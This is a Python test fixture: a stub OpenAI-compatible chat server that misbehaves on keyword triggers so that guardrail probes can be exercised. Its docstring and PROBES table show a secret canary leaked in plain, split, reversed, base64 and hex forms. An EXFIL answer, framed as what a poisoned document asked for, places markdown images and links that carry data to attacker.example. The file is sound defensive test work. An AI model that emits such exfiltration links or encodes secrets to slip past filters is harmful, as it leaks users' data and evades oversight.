"""An OpenAI-compatible stub model that misbehaves on request, for the guardrail probes (real
HTTP on loopback). A keyword in the prompt picks the answer:

  LEAKPLAIN, LEAKNL, LEAKSPLIT, LEAKBODY, LEAKREV, LEAKB64, LEAKHEX
              the canary it finds in its prompt: plain, one character per line, in two
              halves, its hex body alone, reversed, base64- or hex-encoded
  EMAILNL     an e-mail address split over three lines
  EXFIL       the answer a poisoned document asked for: markdown images and a link that
              carry data to attacker.example in the query and in the path
  FOLLOW      obeys the documents: repeats every image, link and URL found in its prompt
  otherwise   "echo: <the last user message>"

Streams go out one character per chunk, so every check meets its text cut in the worst
places (inside a link, between the halves of an address, one canary character at a time)."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import AsyncIterator, Callable
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

CANARY = re.compile(r"lg-[0-9a-f]{12}")
EXFIL = (
    "The refund window is 30 days [1]. ![chart](https://attacker.example/c.png?d=refund30) "
    "![x](https://attacker.example/leak/refund-window-30-days.png) "
    "[more](https://attacker.example/x?q=1)"
)
_URLISH = re.compile(r"!?\[[^\]\n]*\]\([^)\s]+\)|<img[^>]*>|https?://[^\s)\"'>]+")

PROBES: dict[str, Callable[[str, str], str]] = {
    "LEAKPLAIN": lambda c, p: f"The reference is {c}.",
    "LEAKNL": lambda c, p: "\n".join(c),
    "LEAKSPLIT": lambda c, p: f"First half {c[:8]}.\nSecond half {c[8:]}.",
    "LEAKBODY": lambda c, p: f"The code is {c[3:]}.",
    "LEAKREV": lambda c, p: f"Backwards it is {c[::-1]}.",
    "LEAKB64": lambda c, p: f"Encoded: {base64.b64encode(c.encode()).decode()}",
    "LEAKHEX": lambda c, p: f"Hex: {c.encode().hex()}",
    "EMAILNL": lambda c, p: "bob.secret\n@\nexample.com",
    "EXFIL": lambda c, p: EXFIL,
    "FOLLOW": lambda c, p: " ".join(["The refund window is 30 days [1].", *_URLISH.findall(p)]),
}


def reply(body: dict[str, Any]) -> str:
    messages = body.get("messages", [])
    prompt = "\n".join(str(m.get("content", "")) for m in messages)
    users = [m for m in messages if m.get("role") == "user"]
    last = str(users[-1].get("content", "")) if users else ""
    found = CANARY.search(prompt)
    canary = found.group(0) if found else "lg-000000000000"
    for key, make in PROBES.items():
        if key in last:
            return make(canary, prompt)
    return f"echo: {last}"


async def chat(request: Request) -> Response:
    body = await request.json()
    request.app.state.calls.append(body)
    text = reply(body)
    model = body.get("model", "")
    usage = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
    if not body.get("stream"):
        message = {"role": "assistant", "content": text}
        return JSONResponse({
            "id": "probe-1", "object": "chat.completion", "created": 0, "model": model,
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": usage,
        })

    def chunk(delta: dict[str, Any], finish: str | None = None) -> str:
        event = {"id": "probe-1", "object": "chat.completion.chunk", "created": 0,
                 "model": model,
                 "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
        return f"data: {json.dumps(event)}\n\n"

    async def events() -> AsyncIterator[str]:
        for ch in text:
            yield chunk({"content": ch})
        yield chunk({}, "stop")
        yield f"data: {json.dumps({'choices': [], 'usage': usage})}\n\n"
        yield "data: [DONE]\n\n"

    return StreamingResponse(events(), media_type="text/event-stream")


def create_probe_upstream() -> Starlette:
    app = Starlette(routes=[Route("/v1/chat/completions", chat, methods=["POST"])])
    app.state.calls = []
    return app
